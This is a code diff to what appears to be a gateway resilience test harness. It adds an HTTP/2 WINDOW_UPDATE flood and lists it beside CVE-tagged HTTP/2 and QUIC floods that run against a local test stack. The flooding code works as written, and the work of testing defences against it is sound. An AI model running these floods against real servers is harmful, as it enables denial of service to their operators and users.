@@ -12,7 +12,8 @@ attack runs, and reports per attack:
   ``PROTOCOL_ERROR``...), None without one;
 - ``got_through``: what the abuser got processed: streams the gateway
   accepted (the GOAWAY's last stream id), or ACKs it received for PINGs and
-  SETTINGS;
+  SETTINGS, or (WINDOW_UPDATE flood) the updates it wrote before it saw the
+  cut, an upper bound on those the gateway read;
 - ``good_before`` / ``good_during``: the good client's p50/p99 seconds,
   requests and errors.
 
@@ -240,6 +241,52 @@ def priority_flood(stack: Stack) -> AttackOutcome:
     return _flood_outcome(stack, batch, _streams_accepted)
 
 
+WINDOW_UPDATES_PER_BATCH = 20
+PING_ACK_WAIT_S = 2.0
+
+
+def window_update_flood(stack: Stack) -> AttackOutcome:
+    """One request, answered; then 1-byte WINDOW_UPDATEs without end, half on
+    the connection and half on the answered (closed) stream, for which h2
+    raises no event. Nothing they credit is ever used.
+
+    Each batch ends with a PING and the next waits for its ACK: an ACK proves
+    the gateway read the batch and let it pass (an overspending read gets a
+    GOAWAY instead, its ACKs dropped), so ``got_through`` counts exactly the
+    updates the gateway accepted. ``details["allowed"]``: the budget's bound
+    for them (10 for the connection, for the stream and for each DATA frame
+    the abuser received)."""
+    conn = RawH2(stack.gateway_port, str(stack.ca_cert))
+    started = time.monotonic()
+    stream = conn.new_stream()
+    conn.send(conn.request_headers(stream))
+    while stream not in conn.said.ended_streams and not conn.said.cut:
+        if time.monotonic() - started > ATTACK_TIMEOUT_S:
+            break
+        conn.read(0.05)
+    accepted = 0
+    for n in range(MAX_BATCHES):
+        if conn.said.cut or time.monotonic() - started > ATTACK_TIMEOUT_S:
+            break
+        acks = conn.said.frames.get("PingFrame", 0)
+        updates = [conn.window_update(k % 2 and stream, 1)
+                   for k in range(WINDOW_UPDATES_PER_BATCH)]
+        if not conn.send(*updates, conn.ping(n)):
+            break
+        until = time.monotonic() + PING_ACK_WAIT_S
+        while (conn.said.frames.get("PingFrame", 0) == acks and not conn.said.cut
+               and time.monotonic() < until):
+            conn.read(0.02)
+        if conn.said.frames.get("PingFrame", 0) > acks and not conn.said.cut:
+            accepted += WINDOW_UPDATES_PER_BATCH
+    conn.wait_closed(3.0)
+    conn.close()
+    outcome = _outcome(conn, started, accepted)
+    outcome.details.update(closed=conn.said.closed_at > 0,
+                           allowed=10 * (2 + conn.said.frames.get("DataFrame", 0)))
+    return outcome
+
+
 def _single_shot(stack: Stack, frames: Callable[[RawH2], list[Frame]]) -> AttackOutcome:
     conn = RawH2(stack.gateway_port, str(stack.ca_cert))
     started = time.monotonic()
@@ -292,8 +339,7 @@ def _quic_metrics(stack: Stack) -> dict[str, float]:
 
 def quic_flood(stack: Stack) -> AttackOutcome:
     before = _quic_metrics(stack)
-    stop_at = time.monotonic() + FLOOD_S
-    flood = quic_initial_flood(stack.gateway_port, stack.ca_cert, stop_at,
+    flood = quic_initial_flood(stack.gateway_port, stack.ca_cert, FLOOD_S,
                                sockets=QUIC_FLOOD_SOCKETS, pps=QUIC_FLOOD_PPS)
     ended = time.monotonic()
     gone: float | None = None
@@ -336,6 +382,7 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("h2_ping_flood", "h2", "CVE-2019-9512", ping_flood),
     Attack("h2_settings_flood", "h2", "CVE-2019-9515", settings_flood),
     Attack("h2_priority_flood", "h2", "CVE-2019-9513", priority_flood),
+    Attack("h2_window_update_flood", "h2", "", window_update_flood),
     Attack("h2_empty_frames", "h2", "CVE-2019-9518", empty_frames),
     Attack("h2_zero_length_headers", "h2", "CVE-2019-9516", zero_length_headers),
     Attack("h2_empty_header_values", "h2", "CVE-2019-9516", empty_header_values),
